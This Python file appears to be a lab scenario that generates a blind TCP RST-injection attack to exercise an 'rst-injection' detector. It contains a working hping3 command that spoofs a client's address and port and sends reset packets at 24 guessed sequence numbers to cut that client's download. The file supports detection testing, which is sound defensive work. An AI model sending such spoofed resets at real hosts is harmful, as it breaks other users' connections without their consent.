"""hping3 guesses the numbers of a connection that it does not see."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, visitor = net.outside("attacker"), net.outside("visitor")
    web = net.web()
    net.everyday()
    visitor.start(
        "curl",
        "-s",
        "-o",
        "/dev/null",
        "--limit-rate",
        "4k",
        "--local-port",
        "41000",
        f"http://{web.ip}/report.pdf",
    )
    net.quiet(2)
    with net.attack(
        "rst-injection",
        by=attacker,
        victims=[web, visitor],
        attacker_known=False,
        others={"claimed": [visitor]},
        frames=f"tcp and dst host {web.ip} and tcp[tcpflags] & tcp-rst != 0 and src port 41000",
        responses=f"tcp and host {visitor.ip} and port 41000",
    ):
        for number in range(17, 2**32, 2**32 // 24):
            net.tool(
                attacker,
                *f"hping3 -q -R -a {visitor.ip} -s 41000 -k -p 80 -M {number} -c 1 -i u1000 {web.ip}".split(),
                seconds=0.3,
            )
    net.quiet(3)


SCENARIO = Scenario(
    name="rst-injection-guessed",
    about="hping3 sends RSTs at guessed numbers in the name of a client whose connection it cannot see.",
    detectors=("rst-injection",),
    tools={"hping3": "hping3"},
    run=run,
)
